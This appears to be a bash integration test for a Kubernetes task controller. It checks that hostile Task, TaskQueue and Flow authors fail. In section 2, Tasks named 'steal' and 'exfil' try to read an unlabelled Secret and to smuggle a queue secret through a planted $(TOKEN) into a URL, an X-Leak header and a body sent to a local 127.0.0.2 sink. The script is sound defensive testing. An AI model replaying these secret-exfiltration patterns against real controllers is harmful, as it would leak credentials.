#!/usr/bin/env bash
# Hostile Task, TaskQueue and Flow authors against the controller: each section performs an
# attack and checks that it holds.
#  - a TaskQueue naming a Secret nobody opted in (no tasked.dev/queue-secret label), or one
#    whose value an environment variable cannot carry;
#  - a dependency whose output holds $(TOKEN), inserted where the runner expands variables;
#  - durations at and past the CRD maxima (timeouts, TTL, backoff), which used to overflow;
#  - a Task too big for the runner protocol, and field lengths past the CRD caps;
#  - Flow children taken over by name or by label; orphaning and deletion;
#  - a dependency cycle between standalone Tasks.
. "$(dirname "$0")/lib.sh"
test_namespace hostile

STATE=${TASKED_STATE_DIR:-.tasked}
case "$STATE" in /*) ;; *) STATE=$IT_ROOT/$STATE ;; esac
HC=$IT_ROOT/build/tools/httpcount
TMPD=$(mktemp -d /tmp/tasked-it-hostile-XXXXXX)
HC_PID=
cleanup() {
	[ -n "$HC_PID" ] && kill "$HC_PID" 2>/dev/null
	rm -rf "$TMPD"
	_cleanup_namespace
}
trap cleanup EXIT
[ -x "$HC" ] || { echo "Bail out! $HC missing (make build/tools/httpcount)"; exit 255; }
"$HC" --listen 127.0.0.2 --log "$TMPD/requests.log" --port-file "$TMPD/port" --max-seconds 600 &
HC_PID=$!
disown "$HC_PID" 2>/dev/null
for _ in $(seq 1 100); do [ -s "$TMPD/port" ] && break; sleep 0.05; done
P=$(cat "$TMPD/port")

apply() { k apply -f - >/dev/null; }
lacks() { ! grep -qF -- "$2" <<<"$1"; }
flow_field() { k get flow "$1" -o "jsonpath={$2}" 2>/dev/null; }
wait_flow() { # NAME PHASE TIMEOUT
	local end=$(($(date +%s) + $3))
	until [ "$(flow_field "$1" .status.phase)" = "$2" ]; do
		[ "$(date +%s)" -lt "$end" ] || return 1
		sleep 0.3
	done
}
exists() { k get task "$1" >/dev/null 2>&1; }
gone() { ! k get task "$1" >/dev/null 2>&1; }

# --- 1. a Secret that was not opted in ------------------------------------------------------------
canary="canary-$(openssl rand -hex 12)"
k create secret generic db-password --from-literal=password="$canary" >/dev/null
apply <<'EOF2'
apiVersion: tasked.dev/v1alpha1
kind: TaskQueue
metadata: {name: grabby}
spec:
  secrets: [{name: pw, secretKeyRef: {name: db-password, key: password}}]
---
apiVersion: tasked.dev/v1alpha1
kind: Task
metadata: {name: steal}
spec:
  queue: grabby
  env: [{name: PW, valueFrom: {queueSecret: pw}}]
  shell: {command: ["sh", "-c", "printf 'got:%s' \"$PW\" | base64"]}
EOF2
ok_phase steal Failed 30
is "$(task_field steal .status.reason)" "SecretNotFound" "a queue secret naming an unlabelled Secret: SecretNotFound"
like "$(task_field steal .status.message)" 'lacks the label tasked.dev/queue-secret: "true"' "... the message names the missing label"
is "$(task_field steal .status.attempts)" "" "... and nothing ran"
ok "the canary is nowhere in the namespace's Tasks" lacks "$(k get tasks -o yaml)" "$canary"
ok "... nor in the controller's log" lacks "$(cat "$STATE/controller.log")" "$canary"
k label secret db-password tasked.dev/queue-secret=true >/dev/null
apply <<'EOF2'
apiVersion: tasked.dev/v1alpha1
kind: Task
metadata: {name: opted-in}
spec:
  queue: grabby
  env: [{name: PW, valueFrom: {queueSecret: pw}}]
  shell: {command: ["sh", "-c", "printf %s \"$PW\" | wc -c"]}
EOF2
ok_phase opted-in Succeeded 30
is "$(task_field opted-in .status.logTail | tr -d ' ')" "${#canary}" "once labelled by someone who may write Secrets, it is usable"

# A labelled Secret whose value an environment variable cannot carry: a NUL byte (it would end the
# value early) or bytes that are not UTF-8 (a JSON string cannot hold them).
printf 'pre-%s\0post' "$canary" >"$TMPD/nul.bin"
printf '\377\376%s' "$canary" >"$TMPD/bin.bin"
k create secret generic odd --from-file=nul="$TMPD/nul.bin" --from-file=bin="$TMPD/bin.bin" >/dev/null
k label secret odd tasked.dev/queue-secret=true >/dev/null
apply <<'EOF2'
apiVersion: tasked.dev/v1alpha1
kind: TaskQueue
metadata: {name: odd}
spec:
  secrets:
    - {name: nul, secretKeyRef: {name: odd, key: nul}}
    - {name: bin, secretKeyRef: {name: odd, key: bin}}
---
apiVersion: tasked.dev/v1alpha1
kind: Task
metadata: {name: odd-nul}
spec:
  queue: odd
  env: [{name: PW, valueFrom: {queueSecret: nul}}]
  shell: {command: ["sh", "-c", "printf %s \"$PW\""]}
---
apiVersion: tasked.dev/v1alpha1
kind: Task
metadata: {name: odd-bin}
spec:
  queue: odd
  env: [{name: PW, valueFrom: {queueSecret: bin}}]
  shell: {command: ["sh", "-c", "printf %s \"$PW\""]}
EOF2
for t in odd-nul odd-bin; do
	ok_phase $t Failed 30
	is "$(task_field $t .status.reason)" "InvalidSpec" "$t: a queue secret with a NUL or non-UTF-8 byte as an env var: InvalidSpec"
	like "$(task_field $t .status.message)" 'env PW: queue secret .* holds a NUL byte or bytes that are not UTF-8' "... the message names the variable and the queue secret"
	is "$(task_field $t .status.attempts)" "" "... and nothing ran with the value cut short or left out"
done
ok "the canary is nowhere in the namespace's Tasks" lacks "$(k get tasks -o yaml)" "$canary"
ok "... nor in the controller's log" lacks "$(cat "$STATE/controller.log")" "$canary"

# --- 2. second-order expansion: a dependency's output holding $(TOKEN) --------------------------------
token="tok-$(openssl rand -hex 12)"
k create secret generic api --from-literal=token="$token" >/dev/null
k label secret api tasked.dev/queue-secret=true >/dev/null
apply <<'EOF2'
apiVersion: tasked.dev/v1alpha1
kind: TaskQueue
metadata: {name: web}
spec:
  secrets: [{name: api-token, secretKeyRef: {name: api, key: token}}]
  policy:
    executors: [shell, http]
    http: {allowedCIDRs: ["127.0.0.2/32"]}
---
apiVersion: tasked.dev/v1alpha1
kind: Task
metadata: {name: planter}
spec:
  shell: {command: ["sh", "-c", "printf '{\"u\": \"$(TOKEN)\", \"o\": {\"k\": \"$(TOKEN)\"}}' > \"$TASKED_OUTPUT\""]}
EOF2
# planter has no TOKEN in its env, so its own runner leaves $(TOKEN) in the argument as text.
ok_phase planter Succeeded 30
is "$(k get task planter -o jsonpath='{.status.output.u}')" '$(TOKEN)' "the planted output holds \$(TOKEN)"
sed "s/PORT/$P/g" <<'EOF2' | apply
apiVersion: tasked.dev/v1alpha1
kind: Task
metadata: {name: exfil}
spec:
  queue: web
  dependsOn: [planter]
  env: [{name: TOKEN, valueFrom: {queueSecret: api-token}}]
  http:
    url: "http://127.0.0.2:PORT/echo?q=$(tasks.planter.output.u)"
    method: POST
    headers: [{name: X-Leak, value: "$(tasks.planter.output.u)"}]
    body: "$(tasks.planter.output.o)"
---
apiVersion: tasked.dev/v1alpha1
kind: Task
metadata: {name: exfil-argv}
spec:
  queue: web
  dependsOn: [planter]
  env: [{name: TOKEN, valueFrom: {queueSecret: api-token}}]
  shell: {command: ["echo", "arg=$(tasks.planter.output.u)"]}
EOF2
ok_phase exfil Succeeded 30
req=$(grep -F '"path":"/echo' "$TMPD/requests.log" | tail -1)
ok "the server got a request" test -n "$req"
ok "the queue secret never reached the server (url, header, body)" lacks "$(cat "$TMPD/requests.log")" "$token"
like "$req" '"x-leak":"\$\(TOKEN\)"' "the header carries the output as written: \$(TOKEN)"
like "$req" '"body":"\{\\"k\\":\\"\$\(TOKEN\)\\"\}"' "so does the body"
ok_phase exfil-argv Succeeded 30
is "$(task_field exfil-argv .status.logTail)" 'arg=$(TOKEN)' "in argv the output stays text (no secret expanded into argv)"

# --- 3. durations: CRD maxima, and values at the maxima ----------------------------------------------
refuse() { # NAME YAML-SPEC FIELD
	nok "$1: refused by the API server" apply <<EOF2
apiVersion: tasked.dev/v1alpha1
kind: Task
metadata: {name: $1}
spec:
$2
EOF2
	like "$NOK_OUTPUT" "$3" "... naming $3"
}
refuse huge-timeout "  timeoutSeconds: 9223372036854775807
  shell: {command: [\"true\"]}" "timeoutSeconds"
refuse week-and-a-second "  timeoutSeconds: 604801
  shell: {command: [\"true\"]}" "timeoutSeconds"
refuse huge-ttl "  ttlSecondsAfterFinished: 31536001
  shell: {command: [\"true\"]}" "ttlSecondsAfterFinished"
refuse huge-backoff "  retries: {limit: 1, backoff: {initialDelaySeconds: 86401, maxDelaySeconds: 86401}}
  shell: {command: [\"true\"]}" "DelaySeconds"
refuse huge-factor "  retries: {limit: 1, backoff: {factor: 11}}
  shell: {command: [\"true\"]}" "factor"
refuse huge-http-timeout "  http: {url: \"http://127.0.0.2:$P/json\", timeoutSeconds: 604801}" "timeoutSeconds"
nok "a TaskQueue default timeout past a week is refused" apply <<'EOF2'
apiVersion: tasked.dev/v1alpha1
kind: TaskQueue
metadata: {name: forever}
spec: {defaults: {timeoutSeconds: 604801}}
EOF2
nok "a Flow TTL past a year is refused" apply <<'EOF2'
apiVersion: tasked.dev/v1alpha1
kind: Flow
metadata: {name: forever}
spec:
  ttlSecondsAfterFinished: 31536001
  tasks: [{name: a, shell: {command: ["true"]}}]
EOF2
nok "a Flow task's backoff factor past 10 is refused" apply <<'EOF2'
apiVersion: tasked.dev/v1alpha1
kind: Flow
metadata: {name: forever2}
spec:
  tasks: [{name: a, retries: {limit: 1, backoff: {factor: 10.5}}, shell: {command: ["true"]}}]
EOF2

apply <<'EOF2'
apiVersion: tasked.dev/v1alpha1
kind: TaskQueue
metadata: {name: weekly}
spec: {defaults: {timeoutSeconds: 604800}}
---
apiVersion: tasked.dev/v1alpha1
kind: Task
metadata: {name: week-timeout}
spec:
  timeoutSeconds: 604800
  ttlSecondsAfterFinished: 31536000
  shell: {command: ["sh", "-c", "sleep 1; echo done"]}
---
apiVersion: tasked.dev/v1alpha1
kind: Task
metadata: {name: week-default}
spec:
  queue: weekly
  shell: {command: ["sh", "-c", "sleep 1; echo done"]}
---
apiVersion: tasked.dev/v1alpha1
kind: Task
metadata: {name: day-backoff}
spec:
  retries: {limit: 2, backoff: {initialDelaySeconds: 86400, maxDelaySeconds: 86400, factor: 10, jitter: false}}
  shell: {command: ["false"]}
EOF2
apply <<'EOF2'
apiVersion: tasked.dev/v1alpha1
kind: Flow
metadata: {name: yearlong}
spec:
  ttlSecondsAfterFinished: 31536000
  tasks: [{name: a, timeoutSeconds: 604800, shell: {command: ["true"]}}]
EOF2
ok_phase week-timeout Succeeded 30
ok_phase week-default Succeeded 30
is "$(task_field week-timeout .status.logTail)" "done" "timeoutSeconds 604800 does not time out at once"
sleep 3
ok "ttlSecondsAfterFinished 31536000 keeps the finished task" exists week-timeout
ok "a Flow with ttlSecondsAfterFinished 31536000 succeeds" wait_flow yearlong Succeeded 30
sleep 2
ok "... and is kept" k get flow yearlong
wait_retry() { [ "$(task_field day-backoff .status.reason)" = Retrying ]; }
ok "a failing task with a one-day backoff is Retrying" wait_for 30 wait_retry
next=$(task_field day-backoff .status.nextRetryTime)
next_s=$(date -u -d "$next" +%s 2>/dev/null || echo 0)
now_s=$(date -u +%s)
ok "nextRetryTime is about a day ahead ($next), not in year -292274998" \
	test "$next_s" -ge $((now_s + 86400 / 2 - 60)) -a "$next_s" -le $((now_s + 86400 + 60))
is "$(task_field day-backoff .status.phase)" "Queued" "... and the task waits in Queued, not stuck Running"
k patch task day-backoff --type merge -p '{"spec":{"cancel":true}}' >/dev/null
ok_phase day-backoff Cancelled 30

# --- 4. a Task too big for the runner protocol; fields past the CRD caps ----------------------------
big=$(head -c 60000 /dev/zero | tr '\0' 'x')
{
	printf '{"apiVersion":"tasked.dev/v1alpha1","kind":"Task","metadata":{"name":"too-big"},'
	printf '"spec":{"shell":{"command":["true"]},"env":['
	for i in $(seq 1 20); do
		[ "$i" -gt 1 ] && printf ','
		printf '{"name":"V%d","value":"%s"}' "$i" "$big"
	done
	printf ']}}'
} >"$TMPD/too-big.json"
ok "a 1.2 MB Task is accepted by the API server" k create -f "$TMPD/too-big.json"
ok_phase too-big Failed 60
is "$(task_field too-big .status.reason)" "InvalidSpec" "a dispatch over 1 MiB: InvalidSpec instead of never running"
like "$(task_field too-big .status.message)" '[0-9]{7} bytes, over the 1048576-byte limit' "... the message gives the size and the limit"
long=$(head -c 65537 /dev/zero | tr '\0' 'y')
printf '{"apiVersion":"tasked.dev/v1alpha1","kind":"Task","metadata":{"name":"long-env"},"spec":{"shell":{"command":["true"]},"env":[{"name":"A","value":"%s"}]}}' "$long" >"$TMPD/long-env.json"
nok "an env value of 65537 bytes is refused" k create -f "$TMPD/long-env.json"
like "$NOK_OUTPUT" 'env\[0\]\.value' "... naming the field"
printf '{"apiVersion":"tasked.dev/v1alpha1","kind":"Task","metadata":{"name":"long-arg"},"spec":{"shell":{"command":["echo","%s"]}}}' "$long" >"$TMPD/long-arg.json"
nok "a command item of 65537 bytes is refused" k create -f "$TMPD/long-arg.json"
like "$NOK_OUTPUT" 'command\[1\]' "... naming the item"
args=$(for i in $(seq 1 257); do printf '"a",'; done)
printf '{"apiVersion":"tasked.dev/v1alpha1","kind":"Task","metadata":{"name":"many-args"},"spec":{"shell":{"command":[%s"a"]}}}' "$args" >"$TMPD/many-args.json"
nok "258 command items are refused (the runner takes 256)" k create -f "$TMPD/many-args.json"

# --- 5. Flow children: by ownerReference and UID, never by name or label -------------------------------
apply <<'EOF2'
apiVersion: tasked.dev/v1alpha1
kind: Task
metadata: {name: takeover-a, labels: {tasked.dev/flow: takeover, tasked.dev/flow-task: a}}
spec:
  shell: {command: ["sh", "-c", "echo '{\"v\": \"forged\"}' > \"$TASKED_OUTPUT\""]}
EOF2
ok_phase takeover-a Succeeded 30
apply <<'EOF2'
apiVersion: tasked.dev/v1alpha1
kind: Flow
metadata: {name: takeover}
spec:
  tasks:
    - {name: a, shell: {command: ["sh", "-c", "echo '{\"v\": \"real\"}' > \"$TASKED_OUTPUT\""]}}
    - {name: b, dependsOn: [a], shell: {command: ["echo", "b saw $(tasks.a.output.v)"]}}
EOF2
ok "the Flow fails instead of adopting a Task it does not own" wait_flow takeover Failed 30
is "$(flow_field takeover .status.reason)" "ChildNameConflict" "... reason ChildNameConflict"
like "$(flow_field takeover .status.message)" "takeover-a already exists and is not owned by this Flow" "... naming the Task"
is "$(k get task takeover-a -o jsonpath='{.metadata.ownerReferences}')" "" "the stranger Task was not taken over"
ok "no child consumed the forged output" gone takeover-b

apply <<'EOF2'
apiVersion: tasked.dev/v1alpha1
kind: Task
metadata: {name: bystander, labels: {tasked.dev/flow: victim}}
spec:
  shell: {command: ["true"]}
---
apiVersion: tasked.dev/v1alpha1
kind: Task
metadata: {name: victim-x}
spec:
  shell: {command: ["true"]}
EOF2
ok_phase bystander Succeeded 30
ok_phase victim-x Succeeded 30
# victim-x looks like a child of Flow victim by name; the Flow's only child is "one".
apply <<'EOF2'
apiVersion: tasked.dev/v1alpha1
kind: Flow
metadata: {name: victim}
spec:
  tasks: [{name: one, shell: {command: ["true"]}}]
EOF2
ok "a Flow whose label a stranger carries still succeeds" wait_flow victim Succeeded 30
is "$(flow_field victim .status.counts.Succeeded)" "1" "... and counts only its own child"
k delete flow victim >/dev/null
ok "deleting the Flow deletes its child" wait_for 30 gone victim-one
sleep 2
ok "... but not a Task that only carries its label" exists bystander
ok "... nor one that only looks like a child by name" exists victim-x

apply <<'EOF2'
apiVersion: tasked.dev/v1alpha1
kind: Flow
metadata: {name: keep}
spec:
  tasks: [{name: z, shell: {command: ["true"]}}]
EOF2
ok "a Flow to orphan succeeds" wait_flow keep Succeeded 30
k delete flow keep --cascade=orphan --wait=false >/dev/null
gone_flow() { ! k get flow keep >/dev/null 2>&1; }
ok "the orphaning delete completes" wait_for 90 gone_flow
sleep 2
# The garbage collector may still remove keep-z on its own (on a fresh cluster it can learn of
# the Task resource only after the Flow is gone); what the controller did is in its log.
ok "kubectl delete --cascade=orphan: the controller deletes no child, as asked" \
	sh -c "! grep 'deleted a child of a deleted Flow' '$STATE/controller.log' | grep -q '\"flow\":\"keep\"'"

# --- 6. a dependency cycle between standalone Tasks -------------------------------------------------
apply <<'EOF2'
apiVersion: tasked.dev/v1alpha1
kind: Task
metadata: {name: cyc-a}
spec: {dependsOn: [cyc-b], shell: {command: ["true"]}}
---
apiVersion: tasked.dev/v1alpha1
kind: Task
metadata: {name: cyc-b}
spec: {dependsOn: [cyc-a], shell: {command: ["true"]}}
EOF2
cycle_reported() { [ "$(task_field cyc-a .status.reason)" = DependencyCycle ]; }
ok "a cycle between standalone Tasks is reported" wait_for 30 cycle_reported
is "$(task_field cyc-a .status.phase)" "Pending" "... the tasks stay Pending"
like "$(task_field cyc-a .status.message)" 'cyc-a -> cyc-b -> cyc-a' "... and the message names the cycle"

is "$(curl -s -o /dev/null -w '%{http_code}' "$(cat "$STATE/api-url")/healthz")" "200" "the controller is unharmed"
done_testing
